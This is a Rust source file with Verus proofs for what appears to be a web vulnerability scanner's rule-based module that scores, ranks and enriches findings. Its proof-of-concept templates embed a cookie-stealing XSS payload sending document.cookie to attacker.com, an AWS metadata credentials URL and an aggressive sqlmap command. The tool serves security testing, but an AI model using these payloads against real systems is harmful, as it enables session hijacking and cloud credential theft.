//! Rule-based enrichment of findings: a confidence percentage, an analysis
//! text, proof-of-concept commands, and severity adjustment.
use vstd::prelude::*;
use crate::text::{decimal, format_decimal, seq_contains, str_contains, str_eq};
use crate::text::opt_chars;
use crate::types::{kind_name, Severity, Vulnerability};

verus! {

/// Points (out of 100) that the evidence of a class adds to the confidence.
pub open spec fn class_bonus(vuln_type: Seq<char>, evidence: Seq<char>, body: Seq<char>) -> int {
    if vuln_type == "SQL Injection"@ {
        if seq_contains(body, "syntax error"@) || seq_contains(body, "mysql"@) || seq_contains(body, "postgresql"@) {
            20
        } else {
            0
        }
    } else if vuln_type == "XSS"@ {
        if seq_contains(evidence, "<script>"@) || seq_contains(evidence, "onerror"@) {
            30
        } else {
            0
        }
    } else if vuln_type == "SSRF"@ {
        if seq_contains(evidence, "ami-"@) || seq_contains(evidence, "instance-id"@) {
            40
        } else {
            0
        }
    } else if vuln_type == "LFI"@ {
        if seq_contains(evidence, "root:"@) || seq_contains(evidence, "/bin/bash"@) {
            40
        } else {
            0
        }
    } else if vuln_type == "SSTI"@ {
        if seq_contains(evidence, "49"@) || seq_contains(evidence, "SECRET_KEY"@) {
            30
        } else {
            0
        }
    } else {
        0
    }
}

/// Confidence in percent: 50, plus 20 for any evidence, plus the class's
/// bonus, at most 100.
pub open spec fn confidence_pct(vuln_type: Seq<char>, evidence: Seq<char>, body: Seq<char>) -> int {
    let c = 50 + (if evidence.len() > 0 {
        20int
    } else {
        0
    }) + class_bonus(vuln_type, evidence, body);
    if c > 100 {
        100
    } else {
        c
    }
}

pub open spec fn recommendation(vuln_type: Seq<char>, pct: int) -> Seq<char> {
    if pct >= 80 {
        if vuln_type == "SQL Injection"@ {
            "IMMEDIATE ACTION: This appears to be a legitimate SQL injection. Exploit with sqlmap for deeper analysis."@
        } else if vuln_type == "XSS"@ {
            "HIGH PRIORITY: Confirmed XSS vulnerability. Test for session hijacking potential."@
        } else if vuln_type == "SSRF"@ {
            "CRITICAL: SSRF confirmed. Check for cloud metadata access and internal network exposure."@
        } else if vuln_type == "LFI"@ {
            "HIGH PRIORITY: Local file read confirmed. Attempt to read sensitive configuration files."@
        } else if vuln_type == "SSTI"@ {
            "CRITICAL: Template injection confirmed. High risk of RCE - escalate immediately."@
        } else {
            "Investigate further with manual testing."@
        }
    } else if pct >= 50 {
        "MEDIUM PRIORITY: Requires manual verification. May be a false positive."@
    } else {
        "LOW PRIORITY: Likely a false positive. Verify with additional testing."@
    }
}

pub open spec fn confidence_level(pct: int) -> Seq<char> {
    if pct >= 80 {
        "HIGH"@
    } else if pct >= 60 {
        "MEDIUM"@
    } else {
        "LOW"@
    }
}

pub open spec fn analysis_text(vuln_type: Seq<char>, pct: nat, evidence: Seq<char>) -> Seq<char> {
    "AI Analysis [Confidence: "@ + confidence_level(pct as int) + "]:\nVulnerability Type: "@ + vuln_type
        + "\nDetection Confidence: "@ + decimal(pct) + ".0%\nEvidence Quality: "@ + (if evidence.len() > 50 {
        "Strong"@
    } else {
        "Moderate"@
    }) + "\n\nRecommendation: "@ + recommendation(vuln_type, pct as int) + "\n"@
}

pub open spec fn poc_text(vuln_type: Seq<char>, url: Seq<char>, payload: Seq<char>) -> Seq<char> {
    if vuln_type == "SQL Injection"@ {
        "# SQL Injection PoC\n# Target: "@ + url + "\n# Payload: "@ + payload + "\n\ncurl -v '"@ + url
            + "'\n\n# Advanced exploitation:\nsqlmap -u '"@ + url + "' --batch --risk=3 --level=5\n"@
    } else if vuln_type == "XSS"@ {
        "# XSS PoC\n# Target: "@ + url + "\n# Payload: "@ + payload + "\n\n# 1. Basic test:\ncurl -v '"@ + url
            + "'\n\n# 2. Session stealing PoC:\n# Replace payload with:\n# <script>fetch('https://attacker.com?c='+document.cookie)</script>\n"@
    } else if vuln_type == "SSRF"@ {
        "# SSRF PoC\n# Target: "@ + url + "\n# Payload: "@ + payload + "\n\ncurl -v '"@ + url
            + "'\n\n# AWS Metadata enumeration:\n# Try: http://169.254.169.254/latest/meta-data/iam/security-credentials/\n"@
    } else {
        "curl -v '"@ + url + "'"@
    }
}

fn any_of(s: &str, a: &str, b: &str) -> (r: bool)
    ensures
        r == (seq_contains(s@, a@) || seq_contains(s@, b@)),
{
    str_contains(s, a) || str_contains(s, b)
}

/// The rule-based analysis model; disabled, it gives neutral answers.
pub struct VulnAnalysisModel {
    enabled: bool,
}

impl VulnAnalysisModel {
    pub closed spec fn is_enabled(&self) -> bool {
        self.enabled
    }

    pub fn new(enabled: bool) -> (r: VulnAnalysisModel)
        ensures
            r.is_enabled() == enabled,
    {
        VulnAnalysisModel { enabled }
    }

    pub fn enabled(&self) -> (r: bool)
        ensures
            r == self.is_enabled(),
    {
        self.enabled
    }

    /// Confidence in percent that a finding of `vuln_type` is real.
    pub fn calculate_confidence(&self, vuln_type: &str, evidence: &str, response_body: &str) -> (r: u8)
        ensures
            r as int == confidence_pct(vuln_type@, evidence@, response_body@),
    {
        let mut c: u8 = 50;
        if evidence.unicode_len() > 0 {
            c = c + 20;
        }
        let bonus: u8 = if str_eq(vuln_type, "SQL Injection") {
            if str_contains(response_body, "syntax error") || any_of(response_body, "mysql", "postgresql") {
                20
            } else {
                0
            }
        } else if str_eq(vuln_type, "XSS") {
            if any_of(evidence, "<script>", "onerror") {
                30
            } else {
                0
            }
        } else if str_eq(vuln_type, "SSRF") {
            if any_of(evidence, "ami-", "instance-id") {
                40
            } else {
                0
            }
        } else if str_eq(vuln_type, "LFI") {
            if any_of(evidence, "root:", "/bin/bash") {
                40
            } else {
                0
            }
        } else if str_eq(vuln_type, "SSTI") {
            if any_of(evidence, "49", "SECRET_KEY") {
                30
            } else {
                0
            }
        } else {
            0
        };
        c = c + bonus;
        if c > 100 {
            100
        } else {
            c
        }
    }

    pub fn get_recommendation(&self, vuln_type: &str, pct: u8) -> (r: &'static str)
        ensures
            r@ == recommendation(vuln_type@, pct as int),
    {
        if pct >= 80 {
            if str_eq(vuln_type, "SQL Injection") {
                "IMMEDIATE ACTION: This appears to be a legitimate SQL injection. Exploit with sqlmap for deeper analysis."
            } else if str_eq(vuln_type, "XSS") {
                "HIGH PRIORITY: Confirmed XSS vulnerability. Test for session hijacking potential."
            } else if str_eq(vuln_type, "SSRF") {
                "CRITICAL: SSRF confirmed. Check for cloud metadata access and internal network exposure."
            } else if str_eq(vuln_type, "LFI") {
                "HIGH PRIORITY: Local file read confirmed. Attempt to read sensitive configuration files."
            } else if str_eq(vuln_type, "SSTI") {
                "CRITICAL: Template injection confirmed. High risk of RCE - escalate immediately."
            } else {
                "Investigate further with manual testing."
            }
        } else if pct >= 50 {
            "MEDIUM PRIORITY: Requires manual verification. May be a false positive."
        } else {
            "LOW PRIORITY: Likely a false positive. Verify with additional testing."
        }
    }

    /// The analysis text for a confidence of `pct` percent.
    pub fn generate_analysis(&self, vuln_type: &str, pct: u8, evidence: &str) -> (r: String)
        ensures
            r@ == analysis_text(vuln_type@, pct as nat, evidence@),
    {
        let mut s = String::from_str("AI Analysis [Confidence: ");
        s.append(
            if pct >= 80 {
                "HIGH"
            } else if pct >= 60 {
                "MEDIUM"
            } else {
                "LOW"
            },
        );
        s.append("]:\nVulnerability Type: ");
        s.append(vuln_type);
        s.append("\nDetection Confidence: ");
        let d = format_decimal(pct as u64);
        s.append(d.as_str());
        s.append(".0%\nEvidence Quality: ");
        s.append(if evidence.unicode_len() > 50 { "Strong" } else { "Moderate" });
        s.append("\n\nRecommendation: ");
        s.append(self.get_recommendation(vuln_type, pct));
        s.append("\n");
        s
    }

    /// Confidence percentage and analysis text; 50 and a note when disabled.
    pub fn analyze(&self, vuln_type: &str, evidence: &str, response_body: &str) -> (r: (u8, String))
        ensures
            !self.is_enabled() ==> r.0 == 50 && r.1@ == "AI analysis disabled"@,
            self.is_enabled() ==> r.0 as int == confidence_pct(vuln_type@, evidence@, response_body@)
                && r.1@ == analysis_text(vuln_type@, r.0 as nat, evidence@),
    {
        if !self.enabled {
            return (50, String::from_str("AI analysis disabled"));
        }
        let c = self.calculate_confidence(vuln_type, evidence, response_body);
        let a = self.generate_analysis(vuln_type, c, evidence);
        (c, a)
    }

    /// A proof-of-concept script for a finding; none when disabled.
    pub fn generate_poc(&self, vuln_type: &str, url: &str, payload: &str) -> (r: Option<String>)
        ensures
            !self.is_enabled() ==> r is None,
            self.is_enabled() ==> r is Some && r->Some_0@ == poc_text(vuln_type@, url@, payload@),
    {
        if !self.enabled {
            return None;
        }
        let mut s = String::new();
        if str_eq(vuln_type, "SQL Injection") {
            s.append("# SQL Injection PoC\n# Target: ");
            s.append(url);
            s.append("\n# Payload: ");
            s.append(payload);
            s.append("\n\ncurl -v '");
            s.append(url);
            s.append("'\n\n# Advanced exploitation:\nsqlmap -u '");
            s.append(url);
            s.append("' --batch --risk=3 --level=5\n");
        } else if str_eq(vuln_type, "XSS") {
            s.append("# XSS PoC\n# Target: ");
            s.append(url);
            s.append("\n# Payload: ");
            s.append(payload);
            s.append("\n\n# 1. Basic test:\ncurl -v '");
            s.append(url);
            s.append(
                "'\n\n# 2. Session stealing PoC:\n# Replace payload with:\n# <script>fetch('https://attacker.com?c='+document.cookie)</script>\n",
            );
        } else if str_eq(vuln_type, "SSRF") {
            s.append("# SSRF PoC\n# Target: ");
            s.append(url);
            s.append("\n# Payload: ");
            s.append(payload);
            s.append("\n\ncurl -v '");
            s.append(url);
            s.append(
                "'\n\n# AWS Metadata enumeration:\n# Try: http://169.254.169.254/latest/meta-data/iam/security-credentials/\n",
            );
        } else {
            s.append("curl -v '");
            s.append(url);
            s.append("'");
        }
        Some(s)
    }
}

/// One step less severe; Info stays Info.
pub open spec fn downgraded(s: Severity) -> Severity {
    match s {
        Severity::Critical => Severity::High,
        Severity::High => Severity::Medium,
        Severity::Medium => Severity::Low,
        Severity::Low => Severity::Info,
        Severity::Info => Severity::Info,
    }
}

/// Applies the model to findings and weeds out likely false positives.
pub struct VulnerabilityAnalyzer {
    model: VulnAnalysisModel,
}

/// A finding is kept unless its confidence is known and below 30 percent.
pub open spec fn kept(v: Vulnerability) -> bool {
    match v.ai_confidence {
        Some(c) => c >= 30,
        None => true,
    }
}

impl VulnerabilityAnalyzer {
    pub closed spec fn model_enabled(&self) -> bool {
        self.model.is_enabled()
    }

    pub fn new(enable_ai: bool) -> (r: VulnerabilityAnalyzer)
        ensures
            r.model_enabled() == enable_ai,
    {
        VulnerabilityAnalyzer { model: VulnAnalysisModel::new(enable_ai) }
    }

    pub fn downgrade_severity(&self, severity: &Severity) -> (r: Severity)
        ensures
            r == downgraded(*severity),
    {
        match severity {
            Severity::Critical => Severity::High,
            Severity::High => Severity::Medium,
            Severity::Medium => Severity::Low,
            Severity::Low => Severity::Info,
            Severity::Info => Severity::Info,
        }
    }

    /// Findings whose confidence is unknown or at least 30 percent, in order.
    pub fn filter_false_positives(&self, vulns: Vec<Vulnerability>) -> (r: Vec<Vulnerability>)
        ensures
            r@ == vulns@.filter(|v: Vulnerability| kept(v)),
    {
        let ghost vs = vulns@;
        let mut rest = vulns;
        let mut out: Vec<Vulnerability> = Vec::new();
        assert(vs.subrange(0, 0).filter(|v: Vulnerability| kept(v)) =~= Seq::<Vulnerability>::empty());
        while rest.len() > 0
            invariant
                rest@.len() <= vs.len(),
                rest@ == vs.subrange(vs.len() - rest@.len(), vs.len() as int),
                out@ == vs.subrange(0, vs.len() - rest@.len()).filter(|v: Vulnerability| kept(v)),
            decreases rest.len(),
        {
            let ghost k = vs.len() - rest@.len();
            proof {
                reveal(Seq::filter);
            }
            let x = rest.remove(0);
            assert(x == vs[k]);
            assert(vs.subrange(0, k + 1).drop_last() =~= vs.subrange(0, k));
            assert(rest@ =~= vs.subrange(k + 1, vs.len() as int));
            let keep = match x.ai_confidence {
                Some(c) => c >= 30,
                None => true,
            };
            if keep {
                out.push(x);
            }
        }
        assert(vs.subrange(0, vs.len() as int) =~= vs);
        out
    }
}

/// Confidence that enrichment gives a finding: the model's percentage, or 50
/// when the model is disabled.
pub open spec fn enriched_confidence(enabled: bool, v: Vulnerability) -> int {
    if enabled {
        confidence_pct(kind_name(v.vuln_type@), v.evidence@, v.evidence@)
    } else {
        50
    }
}

/// What enrichment does to one finding: it records confidence and analysis,
/// drops the severity one step below 40 percent, and adds a proof of concept
/// from 70 percent when there is none.
pub open spec fn enriched(enabled: bool, old: Vulnerability, new: Vulnerability) -> bool {
    let c = enriched_confidence(enabled, old);
    &&& new.ai_confidence == Some(c as u8)
    &&& opt_chars(new.ai_analysis) == Some(
        if enabled {
            analysis_text(kind_name(old.vuln_type@), c as nat, old.evidence@)
        } else {
            "AI analysis disabled"@
        },
    )
    &&& new.severity == if c < 40 {
        downgraded(old.severity)
    } else {
        old.severity
    }
    &&& opt_chars(new.poc) == if c >= 70 && old.poc is None {
        if enabled {
            Some(poc_text(kind_name(old.vuln_type@), old.url@, old.payload@))
        } else {
            None
        }
    } else {
        opt_chars(old.poc)
    }
    &&& new.id == old.id
    &&& new.vuln_type@ == old.vuln_type@
    &&& new.url == old.url
    &&& new.method == old.method
    &&& new.parameter == old.parameter
    &&& new.payload == old.payload
    &&& new.evidence == old.evidence
    &&& new.description == old.description
    &&& new.remediation == old.remediation
    &&& new.timestamp == old.timestamp
}

/// Weight of a severity in prioritization: 5 for Critical down to 1 for Info.
pub open spec fn severity_weight(s: Severity) -> int {
    match s {
        Severity::Critical => 5,
        Severity::High => 4,
        Severity::Medium => 3,
        Severity::Low => 2,
        Severity::Info => 1,
    }
}

/// Urgency of a finding: severity weight times confidence percentage, 50
/// standing in for an unknown confidence.
pub open spec fn priority(v: Vulnerability) -> int {
    severity_weight(v.severity) * match v.ai_confidence {
        Some(c) => c as int,
        None => 50,
    }
}

impl VulnerabilityAnalyzer {
    /// Reorders the findings, most urgent first.
    pub fn prioritize_vulnerabilities(&self, vulns: &mut Vec<Vulnerability>)
        ensures
            final(vulns)@.to_multiset() == old(vulns)@.to_multiset(),
            forall|i: int, j: int|
                0 <= i < j < final(vulns)@.len() ==> priority(#[trigger] final(vulns)@[i]) >= priority(
                    #[trigger] final(vulns)@[j],
                ),
    {
        let ghost vs = vulns@;
        let mut rest: Vec<Vulnerability> = Vec::new();
        std::mem::swap(&mut rest, vulns);
        let mut out: Vec<Vulnerability> = Vec::new();
        proof {
            out@.to_multiset_ensures();
            assert(out@.to_multiset().add(rest@.to_multiset()) =~= vs.to_multiset());
        }
        while rest.len() > 0
            invariant
                out@.to_multiset().add(rest@.to_multiset()) == vs.to_multiset(),
                forall|i: int, j: int|
                    0 <= i < j < out@.len() ==> priority(#[trigger] out@[i]) >= priority(#[trigger] out@[j]),
                forall|i: int, j: int|
                    0 <= i < out@.len() && 0 <= j < rest@.len() ==> priority(#[trigger] out@[i]) >= priority(
                        #[trigger] rest@[j],
                    ),
            decreases rest.len(),
        {
            let mut best: usize = 0;
            let mut best_score = self.calculate_priority_score(&rest[0]);
            let mut k: usize = 1;
            while k < rest.len()
                invariant
                    0 <= best < k <= rest@.len(),
                    best_score as int == priority(rest@[best as int]),
                    forall|m: int| 0 <= m < k ==> priority(#[trigger] rest@[m]) <= best_score,
                decreases rest@.len() - k,
            {
                let sc = self.calculate_priority_score(&rest[k]);
                if sc > best_score {
                    best = k;
                    best_score = sc;
                }
                k += 1;
            }
            let ghost old_out = out@;
            let ghost old_rest = rest@;
            let x = rest.remove(best);
            out.push(x);
            proof {
                old_out.to_multiset_ensures();
                old_rest.to_multiset_ensures();
                assert(old_rest.to_multiset().count(x) > 0);
                assert(out@ == old_out.push(x));
                assert(rest@ == old_rest.remove(best as int));
                assert(out@.to_multiset().add(rest@.to_multiset()) =~= vs.to_multiset());
                assert forall|i: int, j: int| 0 <= i < out@.len() && 0 <= j < rest@.len() implies priority(
                    #[trigger] out@[i],
                ) >= priority(#[trigger] rest@[j]) by {
                    let jj = if j < best { j } else { j + 1 };
                    assert(rest@[j] == old_rest[jj]);
                    if i < old_out.len() {
                        assert(out@[i] == old_out[i]);
                    }
                }
            }
        }
        proof {
            assert(rest@ =~= Seq::<Vulnerability>::empty());
            assert(out@.to_multiset().add(rest@.to_multiset()) =~= out@.to_multiset());
        }
        *vulns = out;
    }

    /// Enriches every finding, in place and in order.
    pub fn enhance_vulnerabilities(&self, vulns: &mut Vec<Vulnerability>)
        ensures
            final(vulns)@.len() == old(vulns)@.len(),
            forall|i: int|
                0 <= i < old(vulns)@.len() ==> enriched(
                    self.model_enabled(),
                    #[trigger] old(vulns)@[i],
                    final(vulns)@[i],
                ),
    {
        let ghost vs = vulns@;
        let mut rest: Vec<Vulnerability> = Vec::new();
        std::mem::swap(&mut rest, vulns);
        let mut out: Vec<Vulnerability> = Vec::new();
        while rest.len() > 0
            invariant
                rest@.len() <= vs.len(),
                rest@ == vs.subrange(vs.len() - rest@.len(), vs.len() as int),
                out@.len() == vs.len() - rest@.len(),
                forall|i: int| 0 <= i < out@.len() ==> enriched(self.model_enabled(), #[trigger] vs[i], out@[i]),
            decreases rest.len(),
        {
            let ghost k = vs.len() - rest@.len();
            let mut v = rest.remove(0);
            assert(v == vs[k]);
            assert(rest@ =~= vs.subrange(k + 1, vs.len() as int));
            let (c, analysis) = self.model.analyze(v.vuln_type.as_str(), v.evidence.as_str(), v.evidence.as_str());
            v.ai_confidence = Some(c);
            v.ai_analysis = Some(analysis);
            if c < 40 {
                v.severity = self.downgrade_severity(&v.severity);
            }
            if c >= 70 && v.poc.is_none() {
                v.poc = self.model.generate_poc(v.vuln_type.as_str(), v.url.as_str(), v.payload.as_str());
            }
            out.push(v);
        }
        *vulns = out;
    }

    /// Urgency of a finding: severity weight times confidence percentage,
    /// taking 50 when the confidence is unknown.
    pub fn calculate_priority_score(&self, vuln: &Vulnerability) -> (r: u32)
        ensures
            r as int == priority(*vuln),
    {
        let w: u32 = match vuln.severity {
            Severity::Critical => 5,
            Severity::High => 4,
            Severity::Medium => 3,
            Severity::Low => 2,
            Severity::Info => 1,
        };
        let c: u32 = match vuln.ai_confidence {
            Some(c) => c as u32,
            None => 50,
        };
        w * c
    }
}

} // verus!
